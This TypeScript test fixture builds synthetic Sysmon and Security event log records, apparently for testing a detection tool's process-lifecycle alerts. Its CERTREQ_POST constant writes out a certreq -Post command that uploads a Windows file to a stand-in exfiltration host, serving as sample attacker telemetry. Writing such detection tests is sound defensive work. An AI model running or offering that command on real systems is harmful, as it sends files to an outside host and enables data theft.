/**
 * Process-lifecycle events as the Rust evtx_dump tool writes them (Event.System / Event.EventData with
 * "#attributes"), for the tests of alerts completed by later events: Sysmon 1/3/5, Security 4688/4689.
 */
const SYSMON = { name: 'Microsoft-Windows-Sysmon', guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9', channel: 'Microsoft-Windows-Sysmon/Operational' };
const SECURITY = { name: 'Microsoft-Windows-Security-Auditing', guid: '54849625-5478-4994-A5BA-3E3B0328C30D', channel: 'Security' };

export const CERTREQ = 'C:\\Windows\\System32\\certreq.exe';
export const CERTREQ_POST = 'certreq -Post -config https://exfil.example.invalid/upload C:\\Windows\\win.ini C:\\Users\\Public\\out.txt';

let record = 50_000;

function envelope(src: typeof SYSMON, eventId: number, host: string, time: string, data: Record<string, unknown>): Record<string, unknown> {
  return {
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: { '#attributes': { Name: src.name, Guid: src.guid } },
        EventID: eventId,
        Version: src === SYSMON ? 5 : 2,
        Level: 0,
        Task: 0,
        Opcode: 0,
        Keywords: '0x8020000000000000',
        TimeCreated: { '#attributes': { SystemTime: time } },
        EventRecordID: ++record,
        Correlation: null,
        Execution: { '#attributes': { ProcessID: 4, ThreadID: 96 } },
        Channel: src.channel,
        Computer: host,
        Security: null,
      },
      EventData: data,
    },
  };
}

export function sysmonStart(p: { host: string; time: string; guid: string; pid: number; parentGuid: string; ppid: number; image?: string; cmd?: string }): Record<string, unknown> {
  const image = p.image ?? CERTREQ;
  return envelope(SYSMON, 1, p.host, p.time, {
    RuleName: '-',
    UtcTime: p.time.replace('T', ' ').replace('Z', ''),
    ProcessGuid: `{${p.guid}}`,
    ProcessId: p.pid,
    Image: image,
    OriginalFileName: image === CERTREQ ? 'CertReq.exe' : 'Cmd.Exe',
    CommandLine: p.cmd ?? CERTREQ_POST,
    CurrentDirectory: 'C:\\Users\\alice\\',
    User: 'CORP\\alice',
    IntegrityLevel: 'Medium',
    ParentProcessGuid: `{${p.parentGuid}}`,
    ParentProcessId: p.ppid,
    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
    ParentCommandLine: 'cmd.exe',
  });
}

export function sysmonEnd(p: { host: string; time: string; guid: string; pid: number; image?: string }): Record<string, unknown> {
  return envelope(SYSMON, 5, p.host, p.time, { RuleName: '-', UtcTime: p.time.replace('T', ' ').replace('Z', ''), ProcessGuid: `{${p.guid}}`, ProcessId: p.pid, Image: p.image ?? CERTREQ, User: 'CORP\\alice' });
}

export function sysmonNetwork(p: { host: string; time: string; guid: string; pid: number; ip: string; hostname: string; port: number }): Record<string, unknown> {
  return envelope(SYSMON, 3, p.host, p.time, {
    RuleName: '-', UtcTime: p.time.replace('T', ' ').replace('Z', ''), ProcessGuid: `{${p.guid}}`, ProcessId: p.pid, Image: CERTREQ, User: 'CORP\\alice',
    Protocol: 'tcp', Initiated: true, SourceIsIpv6: false, SourceIp: '10.0.0.5', SourcePort: 50123,
    DestinationIsIpv6: false, DestinationIp: p.ip, DestinationHostname: p.hostname, DestinationPort: p.port,
  });
}

/** Security 4688: PIDs in hex, as Windows writes them. */
export function sec4688(p: { host: string; time: string; pid: number; ppid: number; cmd?: string }): Record<string, unknown> {
  return envelope(SECURITY, 4688, p.host, p.time, {
    SubjectUserSid: 'S-1-5-18', SubjectUserName: `${p.host}$`, SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7',
    NewProcessId: `0x${p.pid.toString(16)}`, NewProcessName: CERTREQ, TokenElevationType: '%%1936', ProcessId: `0x${p.ppid.toString(16)}`,
    CommandLine: p.cmd ?? CERTREQ_POST, TargetUserSid: 'S-1-5-21-1-2-3-1104', TargetUserName: 'bob', TargetDomainName: 'CORP', TargetLogonId: '0x8cca0',
    ParentProcessName: 'C:\\Windows\\System32\\cmd.exe', MandatoryLabel: 'S-1-16-8192',
  });
}

export function sec4689(p: { host: string; time: string; pid: number; status?: number }): Record<string, unknown> {
  return envelope(SECURITY, 4689, p.host, p.time, {
    SubjectUserSid: 'S-1-5-21-1-2-3-1104', SubjectUserName: 'bob', SubjectDomainName: 'CORP', SubjectLogonId: '0x8cca0',
    Status: `0x${(p.status ?? 0).toString(16)}`, ProcessId: `0x${p.pid.toString(16)}`, ProcessName: CERTREQ,
  });
}

export function ndjson(docs: unknown[]): string {
  return docs.map((d) => JSON.stringify(d)).join('\n') + '\n';
}

/** An SSE subscription collecting `event:` blocks. */
export async function subscribe(url: string, headers: Record<string, string>): Promise<{ blocks: () => { event: string; id: string; data: Record<string, unknown> }[]; close: () => void }> {
  const ctl = new AbortController();
  const res = await fetch(`${url}/api/stream`, { headers, signal: ctl.signal });
  const reader = res.body!.pipeThrough(new TextDecoderStream()).getReader();
  let text = '';
  void (async () => {
    try {
      for (;;) {
        const { value, done } = await reader.read();
        if (done) return;
        text += value;
      }
    } catch {
      // aborted
    }
  })();
  return {
    blocks: () =>
      text
        .split('\n\n')
        .map((b) => ({ event: /^event: (.*)$/m.exec(b)?.[1], id: /^id: (.*)$/m.exec(b)?.[1], data: /^data: (.*)$/m.exec(b)?.[1] }))
        .filter((b): b is { event: string; id: string; data: string } => b.event !== undefined && b.id !== undefined && b.data !== undefined)
        .map((b) => ({ event: b.event, id: b.id, data: JSON.parse(b.data) as Record<string, unknown> })),
    close: () => ctl.abort(),
  };
}
